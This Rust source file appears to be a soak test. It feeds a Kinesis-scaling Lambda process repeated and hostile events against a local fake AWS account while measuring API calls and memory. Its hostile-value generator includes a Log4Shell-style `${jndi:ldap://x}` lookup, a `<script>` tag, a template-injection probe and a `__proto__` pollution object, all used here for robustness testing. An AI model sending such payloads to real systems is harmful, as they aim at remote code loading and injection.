//! A soak of the release `bootstrap`: one process gets real, repeated and hostile events, and its calls and its memory
//! are measured.

#![allow(dead_code, reason = "each program uses its part")]

use crate::aws::{TOO_MUCH_FOR_TWO, datapoints, root};
use crate::lambda::{Container, Run};
use fastrand::Rng;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::Duration;
use unthrottle::sweep::LONGEST_CHECK;
use unthrottle_lab::local::{LocalAccount, Options};

/// Streams that exist at a time, and the events that each set of them sees. A set is large enough for every decision,
/// and small enough that each of its streams is changed.
const STREAMS: usize = 40;
const EVENTS_OF_A_SET: usize = 1000;

/// The sets take turns. AWS changes a stream ten times a day, and a million events come to a set twelve times.
const SETS: usize = 80;

/// An event in this number is a sweep, which begins checks for two seconds.
const EVENTS_PER_SWEEP: usize = 1000;
const SWEEP_BEGINS_FOR: Duration = Duration::from_secs(2);

/// The most calls of a run that is no sweep: docs/development.md has them one by one.
pub const MOST_CALLS: u64 = 12;

/// The most calls in which a sweep finds its streams, and the most checks that it begins in its time.
pub const MOST_CALLS_OF_SWEEP: u64 = 8 + 12 * MOST_CALLS;

/// The settings of the process: bounds that no number of events reaches.
const SETTINGS: [(&str, &str); 4] = [
    ("UNTHROTTLE_FLEET_ALARMS", "writes,reads"),
    ("UNTHROTTLE_MAX_CHANGES_PER_HOUR", "10000"),
    ("UNTHROTTLE_MAX_ADDED_SHARDS", "100000"),
    ("UNTHROTTLE_TOPIC_ARN", "arn:aws:sns:us-east-1:123456789012:unthrottle"),
];

/// What the events came to.
#[derive(Debug, Default)]
pub struct Soaked {
    pub seed: u64,
    pub events: usize,
    /// Decisions by outcome, and errors by type.
    pub outcomes: BTreeMap<String, u64>,
    pub most_calls: u64,
    pub most_calls_of_sweep: u64,
    pub calls: u64,
    /// Events, KiB resident then, and the most KiB resident so far.
    pub memory: Vec<(usize, u64, u64)>,
}

impl Soaked {
    /// How many KiB the largest resident set grew between the first fifth of the events and their end.
    pub fn growth(&self) -> u64 {
        let fifth = self.memory.iter().find(|(events, ..)| *events * 5 >= self.events);
        let (_, _, before) = fifth.expect("it was measured");
        self.memory.last().expect("it was measured").2 - before
    }
}

/// Sends this number of events to one process of `program`.
pub async fn soak(program: PathBuf, events: usize, seed: u64) -> (Soaked, Container) {
    let options = Options { update_time: Duration::from_secs(3600), shard_limit: 10_000, ..Options::default() };
    let account = LocalAccount::start(options).await.expect("a free port");
    account.add_fleet_alarm("writes", "WriteProvisionedThroughputExceeded");
    account.add_fleet_alarm("reads", "ReadProvisionedThroughputExceeded");
    let mut container = Container::launch(program, account.url(), &SETTINGS).await;
    container.asks().await;
    let mut source = Source::of(seed);
    let mut soaked = Soaked { seed, events, ..Soaked::default() };
    for n in 0..events {
        if n % EVENTS_OF_A_SET == 0 {
            source.set = (n / EVENTS_OF_A_SET) % SETS;
            renew(&account, source.set).await;
        }
        account.forget_rates();
        account.reset_calls();
        let is_sweep = n % EVENTS_PER_SWEEP == EVENTS_PER_SWEEP / 2;
        let run = match is_sweep {
            true => container.invoke_until(LONGEST_CHECK + SWEEP_BEGINS_FOR, &json!({ "sweep": true })).await,
            false => container.invoke(&source.next()).await,
        };
        let calls: u64 = account.calls().values().sum();
        soaked.calls += calls;
        let most = if is_sweep { &mut soaked.most_calls_of_sweep } else { &mut soaked.most_calls };
        *most = calls.max(*most);
        *soaked.outcomes.entry(outcome(&run)).or_default() += 1;
        if (n + 1) % (events / 20).max(1) == 0 {
            soaked.memory.push((n + 1, resident_kib(container.id(), "VmRSS:"), resident_kib(container.id(), "VmHWM:")));
        }
    }
    (soaked, container)
}

fn outcome(run: &Run) -> String {
    match &run.answer {
        Ok(document) => document["outcome"].as_str().expect("an outcome").to_owned(),
        Err(error) => format!("error {}", error["errorType"].as_str().expect("a type")),
    }
}

/// Makes the streams of a set as they were at the beginning: two shards, without tags, and throttled.
async fn renew(account: &LocalAccount, set: usize) {
    account.finish_changes().await;
    account.add_streams((0..STREAMS).map(|n| stream(set, n)), 2, &[]).await;
    for n in 0..STREAMS {
        for (metric, at, value) in datapoints(TOO_MUCH_FOR_TWO, 10, account.now()) {
            account.put_metric("AWS/Kinesis", metric, &[("StreamName", &stream(set, n))], at, value);
        }
    }
}

fn stream(set: usize, n: usize) -> String {
    format!("orders-{set:02}-{n:02}")
}

/// A number of the kernel about a process, in KiB.
fn resident_kib(process: u32, what: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{process}/status")).expect("Linux, and the process lives");
    let line = status.lines().find_map(|line| line.strip_prefix(what)).expect("a number");
    line.trim().trim_end_matches(" kB").parse().expect("a number")
}

/// Where the events come from.
struct Source {
    chance: Rng,
    /// Every sample event.
    samples: Vec<Value>,
    /// The streams that exist now.
    set: usize,
    last: Value,
}

impl Source {
    fn of(seed: u64) -> Source {
        let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("events"))
            .expect("the sample events")
            .map(|file| file.expect("readable").path())
            .filter(|path| path.extension().is_some_and(|extension| extension == "json"))
            .collect();
        files.sort();
        let read = |path: &PathBuf| serde_json::from_slice(&std::fs::read(path).expect("readable")).expect("JSON");
        let samples: Vec<Value> = files.iter().map(read).filter(is_no_sweep).collect();
        Source { chance: Rng::with_seed(seed), samples, set: 0, last: json!({}) }
    }

    /// A fifth repeats the event before. The rest is a third each: samples, events about streams that exist, and
    /// samples with one hostile value in them.
    fn next(&mut self) -> Value {
        if self.chance.usize(..5) == 0 {
            return self.last.clone();
        }
        let mut event = self.samples[self.chance.usize(..self.samples.len())].clone();
        match self.chance.usize(..3) {
            0 => {}
            1 => {
                let name = stream(self.set, self.chance.usize(..STREAMS));
                event = if self.chance.bool() { json!({ "stream": name }) } else { renamed(event, &name) };
            }
            _ => {
                let place = self.chance.usize(..leaves(&mut event, &mut |_| ()));
                let value = self.hostile();
                let mut n = 0;
                leaves(&mut event, &mut |leaf| {
                    if n == place {
                        *leaf = value.clone();
                    }
                    n += 1;
                });
            }
        }
        self.last = event.clone();
        event
    }

    /// A value that no caller of good will sends.
    fn hostile(&mut self) -> Value {
        let number = self.chance.u64(..);
        match self.chance.usize(..12) {
            0 => Value::Null,
            1 => json!(true),
            2 => json!(-1),
            3 => json!(number),
            4 => json!(1e300),
            5 => json!(""),
            6 => json!("x".repeat(self.chance.usize(..100_000))),
            7 => json!("\u{202e}\u{0}\u{7}<script>${jndi:ldap://x}{{7*7}}"),
            8 => (0..100).fold(json!(number), |inner, _| json!([inner])),
            9 => json!({ "a": { "$ref": "#" }, "__proto__": number }),
            // New names each time: a process must not remember all of them.
            10 => json!(format!("stream-{number}")),
            _ => json!(format!("arn:aws:kinesis:us-east-1:123456789012:stream/s{number}")),
        }
    }
}

/// The event about another stream.
fn renamed(event: Value, stream: &str) -> Value {
    let text = event.to_string().replace("stream/orders", &format!("stream/{stream}"));
    let text = text.replace("\"orders\"", &format!("\"{stream}\""));
    serde_json::from_str(&text).expect("JSON")
}

/// Calls `each` for every value in `value` that holds no other. Gives their number, which is at least 1.
fn leaves(value: &mut Value, each: &mut impl FnMut(&mut Value)) -> usize {
    match value {
        Value::Object(map) if !map.is_empty() => map.values_mut().map(|inner| leaves(inner, each)).sum(),
        Value::Array(list) if !list.is_empty() => list.iter_mut().map(|inner| leaves(inner, each)).sum(),
        leaf => {
            each(leaf);
            1
        }
    }
}

/// A sweep has a deadline of its own here.
fn is_no_sweep(event: &Value) -> bool {
    event["sweep"].is_null() && event["detail-type"] != "Scheduled Event"
}
